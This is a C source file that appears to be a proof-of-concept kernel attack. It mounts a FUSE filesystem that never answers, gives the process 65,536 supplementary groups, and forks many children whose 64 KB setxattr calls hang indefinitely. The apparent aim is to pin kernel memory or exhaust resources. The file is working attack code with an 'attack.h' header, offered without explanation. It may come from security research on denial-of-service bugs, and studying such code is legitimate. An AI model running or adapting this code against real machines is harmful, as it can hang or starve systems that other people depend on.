/* crowd PROCESSES: callers with all groups there can be, whose large setxattr hangs in a FUSE that never answers */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <grp.h>
#include <linux/fuse.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static void reply(int device, uint64_t unique, const void *data, size_t size)
{
    struct fuse_out_header header = {.len = (uint32_t)(sizeof header + size), .unique = unique};
    struct iovec parts[] = {{&header, sizeof header}, {(void *)data, size}};

    if (writev(device, parts, 2) < 0)
        fail("reply");
}

static void serve(int device)
{
    static char buffer[1 << 17];
    struct fuse_in_header *request = (struct fuse_in_header *)buffer;
    struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096};
    struct fuse_attr_out attributes = {.attr = {.ino = 1, .mode = S_IFDIR | 0755, .nlink = 2}};

    while (read(device, buffer, sizeof buffer) >= (ssize_t)sizeof *request)
        if (request->opcode == FUSE_INIT)
            reply(device, request->unique, &init, sizeof init);
        else if (request->opcode == FUSE_GETATTR)
            reply(device, request->unique, &attributes, sizeof attributes);
}

int main(int argc, char **argv)
{
    static gid_t groups[65536];
    static char value[65536];
    char options[128], name[64];
    int count = atoi(argv[1]), device = open("/dev/fuse", O_RDWR);

    (void)argc;
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", device);
    if (device < 0 || mount("hung", "/place", "fuse", 0, options) < 0)
        fail("/place");
    if (fork() == 0)
        serve(device);
    close(device);
    for (int i = 0; i < 65536; i++)
        groups[i] = 1000000000u + i;
    if (setgroups(65536, groups) < 0)
        fail("setgroups");
    for (int i = 0; i < count; i++)
        if (fork() == 0) {
            snprintf(name, sizeof name, "/place/%d", i);
            setxattr(name, "user.x", value, sizeof value, 0);
            perror("setxattr");
            _exit(0);
        }
    for (;;)
        pause();
}
